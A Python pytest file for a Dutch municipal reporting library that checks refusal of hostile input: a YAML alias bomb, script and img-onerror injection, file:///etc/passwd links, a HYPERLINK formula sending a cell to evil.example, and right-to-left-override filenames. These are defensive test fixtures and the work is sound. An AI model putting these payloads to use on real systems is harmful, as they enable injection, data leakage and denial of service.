"""Bounded input: schedule and YAML data files are read only when they are small regular files without YAML
anchors; text fields refuse markup, control and invisible characters; numbers are ASCII digits."""

from __future__ import annotations

import os
import threading

import pytest

from sdlib.data.fileio import UnreadableFileError, clip, read_bounded, yaml_structure_problem
from sdlib.data.textrules import ascii_number, text_problem
from sdlib.report.params import ParameterError
from sdlib.report.schedule import load_schedule

BOMB = "\n".join(
    ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    + [f"{n}: &{n} [{','.join(['*' + p] * 9)}]" for p, n in zip("abcdefgh", "bcdefghi")]
    + ["reports: [*i]"]
)


def test_a_yaml_alias_bomb_is_refused_before_it_is_built():
    line, reason = yaml_structure_problem(BOMB)
    assert line == 1 and "anker" in reason


def test_a_schedule_with_anchors_is_refused_naming_the_line(tmp_path):
    path = tmp_path / "schedule.yml"
    path.write_text(BOMB, encoding="utf-8")
    with pytest.raises(ParameterError, match=r"regel 1: gebruikt een YAML-anker"):
        load_schedule(path)


def test_deep_nesting_is_refused():
    assert "genest" in yaml_structure_problem("x: " + "[" * 100 + "]" * 100)[1]


def test_plain_yaml_passes():
    assert yaml_structure_problem("reports:\n  - notebook: a\n    parameters: {jaar: 2024}\n") is None


@pytest.mark.parametrize("target, words", [("/dev/zero", "geen gewoon bestand"), ("/", "is een map")])
def test_devices_and_folders_are_not_read(target, words):
    with pytest.raises(UnreadableFileError, match=words):
        read_bounded(target)


def test_a_fifo_does_not_hang(tmp_path):
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    result = {}

    def read():
        try:
            read_bounded(fifo)
        except UnreadableFileError as exc:
            result["reason"] = exc.reason

    worker = threading.Thread(target=read, daemon=True)
    worker.start()
    worker.join(5)
    assert not worker.is_alive(), "reading a FIFO blocked"
    assert "geen gewoon bestand" in result["reason"]


def test_a_large_file_is_refused_without_reading_it(tmp_path):
    big = tmp_path / "big.yml"
    with open(big, "wb") as fh:
        fh.truncate(5_000_000)  # sparse: costs no disk
    with pytest.raises(UnreadableFileError, match="wordt niet gelezen"):
        read_bounded(big, 1_000_000)
    assert read_bounded(big, 6_000_000)[:3] == b"\0\0\0"


def test_a_schedule_that_is_a_device_is_refused():
    with pytest.raises(ParameterError, match="/dev/zero: is geen gewoon bestand"):
        load_schedule("/dev/zero")


def test_messages_are_clipped():
    assert len(clip("x" * 1_000_000, 400)) < 450


@pytest.mark.parametrize(
    "text, words",
    [
        ('Jaarstukken 2025<a rel="attachment" href="file:///etc/passwd">.</a>', "HTML"),
        ("<script>alert(1)</script>", "HTML"),
        ("titel<img src=x onerror=alert(1)>", "HTML"),
        ("regel een\nregel twee", "regeleinde"),
        ("carriage\rreturn", "regeleinde"),
        ("nul\x00teken", "U+0000"),
        ("escape\x1b[31m", "U+001B"),
        ("bel\x07", "U+0007"),
        ("ok\u202efdp.exe", "U+202E"),
        ("zero\u200bwidth", "U+200B"),
        ('=HYPERLINK("http://evil.example/?x="&A1;"klik")', "formule"),
        ("+31 6 1234", "formule"),
        ("@SUM(A1)", "formule"),
    ],
)
def test_text_rules_refuse(text, words):
    reason = text_problem(text)
    assert reason is not None and words in reason, reason


@pytest.mark.parametrize(
    "text",
    [
        "Jaarstukken 2024",
        "45,9% (2.261 van 4.923)",
        "kosten < 8 jaar",
        "t/m november",
        "Oekraïners",
        "‘Doel gehaald’ – ja",
    ],
)
def test_text_rules_accept_ordinary_dutch(text):
    assert text_problem(text) is None


def test_blank_required_text_is_refused():
    assert "leeg" in text_problem("   ", required=True)


@pytest.mark.parametrize(
    "text, ok", [("2025", True), ("٢٠٢٥", False), ("２０２５", False), ("46.0", True), ("４６.０", False), ("-3", True)]
)
def test_numbers_are_ascii_digits(text, ok):
    assert ascii_number(text) is ok


HEADER = "year,measure,value,source,table,reference_date,provisional,note\n"


@pytest.mark.parametrize(
    "row, column, words",
    [
        ("٢٠٢٣,realisatie,45.9,doc_a,Tabel 2,,false,", "year", "heel jaartal"),
        ("2023,realisatie,４６.０,doc_a,Tabel 2,,false,", "value", "in cijfers 0-9"),
        ("2023,realisatie,45.9,doc_a,Tabel 2,,false,noot\x00met nul", "note", "U+0000"),
        ("2023,realisatie,45.9,doc_a,Tabel 2,,false,noot\x1b[31m", "note", "U+001B"),
        ("2023,realisatie,45.9,doc_a,Tabel\u200b 2,,false,", "table", "U+200B"),
        ("2023,realisatie,45.9,doc_a,Tabel 2,,false,\u202eevil", "note", "U+202E"),
        (
            '2023,realisatie,45.9,doc_a,Tabel 2,,false,"=HYPERLINK(""http://evil.example/"";""klik"")"',
            "note",
            "formule",
        ),
        ('2023,realisatie,45.9,doc_a,Tabel 2,,false,<img src="file:///etc/passwd">', "note", "HTML"),
    ],
)
def test_validate_refuses_silent_changes(mini_data, row, column, words):
    from sdlib.data.validate import validate_all

    (mini_data / "series" / "demo_pct.csv").write_text(HEADER + row + "\n", encoding="utf-8")
    problems = validate_all(mini_data)
    assert any(p.column == column and p.row == 2 and words in p.message for p in problems), problems


def test_validate_refuses_markup_in_a_source_title(mini_data):
    from sdlib.data.validate import validate_all

    path = mini_data / "sources.csv"
    lines = path.read_text(encoding="utf-8").splitlines()
    lines[1] = lines[1].replace(lines[1].split(",")[1], "Doc<script>alert(1)</script>", 1)
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    problems = validate_all(mini_data)
    assert any(p.row == 2 and p.column == "title" and "HTML" in p.message for p in problems), problems


def test_a_catalog_with_an_anchor_is_refused_naming_the_line(mini_data):
    import sdlib
    from sdlib.data.validate import validate_all

    cat = mini_data / "catalog.yml"
    before = cat.read_text(encoding="utf-8")
    entry = "  demo_anchor:\n    title: &t Titel\n    definition: *t\n    unit: count\n    theme: jeugd\n"
    cat.write_text(before + entry, encoding="utf-8")
    anchor_line = len(before.splitlines()) + 2  # the line of 'title: &t Titel'
    (p,) = validate_all(mini_data)
    assert (p.file, p.row) == ("data/catalog.yml", anchor_line) and "YAML-anker" in p.message
    with pytest.raises(sdlib.DataValidationError, match=rf"catalog.yml, regel {anchor_line}: gebruikt een YAML-anker"):
        sdlib.load("demo_pct", data_dir=mini_data)


@pytest.mark.parametrize(
    "text, words",
    [("<script>alert(1)</script>", "HTML"), ("Tekst\x1b[31m.", "U+001B"), ("Tekst\u202eevil.", "U+202E")],
)
def test_printed_texts_refuse_markup_and_control_characters(mini_data, fixture_data, tmp_path, text, words):
    """The municipality's words (toelichtingen.csv, passages.csv) are quoted in reports: the text rules hold there."""
    import shutil

    from sdlib.data.validate import validate_all

    (mini_data / "toelichtingen.csv").write_text(
        f"series,year,about,source,table,text\ndemo_pct,2024,2024,doc_a,Tabel 1,{text}\n", encoding="utf-8"
    )
    (p,) = validate_all(mini_data)
    assert (p.file, p.row, p.column) == ("data/toelichtingen.csv", 2, "text") and words in p.message
    waterveen = tmp_path / "waterveen"  # its catalog has the topics a passage needs
    shutil.copytree(fixture_data, waterveen)
    (waterveen / "passages.csv").write_text(
        f"topic,kind,year,source,section,text,sic\nstromen,uitleg,2024,wv_jaarstukken_2024,Jeugd,{text},\n",
        encoding="utf-8",
    )
    (p,) = validate_all(waterveen)
    assert (p.file, p.row, p.column) == ("data/passages.csv", 2, "text") and words in p.message


def test_files_written_together_change_together_under_a_size_limit(tmp_path):
    """With the output file size limited (ulimit -f), a failed write leaves every earlier file as it was."""
    import subprocess
    import sys

    for name in ("r.pdf", "r.html", "r.manifest.json"):
        (tmp_path / name).write_text(f"oud {name}", encoding="utf-8")
    code = f"""
import resource, signal
from pathlib import Path
from sdlib.data.fileio import atomic_write_together
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
resource.setrlimit(resource.RLIMIT_FSIZE, (8192, 8192))
out = Path({str(tmp_path)!r})
try:
    atomic_write_together({{out / "r.html": b"nieuw", out / "r.pdf": b"x" * 100_000, out / "r.manifest.json": b"{{}}"}})
except OSError as exc:
    print("refused", exc.errno)
"""
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    assert "refused" in proc.stdout, proc.stdout + proc.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["r.html", "r.manifest.json", "r.pdf"]
    for name in ("r.pdf", "r.html", "r.manifest.json"):
        assert (tmp_path / name).read_text(encoding="utf-8") == f"oud {name}"


@pytest.mark.parametrize(
    "name, words",
    [
        ("ok\u202efdp.exe", "U+202E (right-to-left override)"),  # reads as 'okexe.pdf'
        ("rapport\u200b2024", "U+200B (zero width space)"),
        ("rapport\x1b", "stuurteken U+001B"),
    ],
)
def test_an_output_name_with_invisible_characters_is_refused(name, words):
    from sdlib.report.schedule import check_file_name

    with pytest.raises(ParameterError) as info:
        check_file_name(name)
    assert str(info.value).startswith("uitvoernaam ") and words in str(info.value)


def test_an_excel_sep_line_is_named_as_such():
    from sdlib.data.validate import header_problems

    (p,) = header_problems(["sep=", ""], "nieuw.csv")
    assert (p.file, p.row) == ("nieuw.csv", 1) and "een regel die Excel toevoegt; haal die regel weg" in p.message


@pytest.mark.parametrize(
    "code, words",
    [
        ("ENOSPC", "de schijf is vol"),
        ("EROFS", "het bestandssysteem is alleen te lezen"),
        ("EACCES", "geen toestemming"),
        ("EFBIG", "het bestand wordt groter dan is toegestaan"),
    ],
)
def test_operating_system_errors_are_said_in_dutch_with_a_short_path(code, words):
    import errno

    from sdlib.data import paths
    from sdlib.data.fileio import os_reason

    exc = OSError(getattr(errno, code), "English text", str(paths.project_root() / "reports" / "x.pdf"))
    assert os_reason(exc) == f"reports/x.pdf: {words}"


@pytest.mark.parametrize(
    "folder, words",
    [("/etc/passwd", "is een bestand, geen map"), ("/no/such/folder", "deze map bestaat niet")],
)
def test_a_data_dir_that_is_no_data_folder_is_named(folder, words, capsys):
    from sdlib.cli import main

    assert main(["--data-dir", folder, "validate"]) == 2
    assert f"fout: --data-dir {folder}: {words}" in capsys.readouterr().err
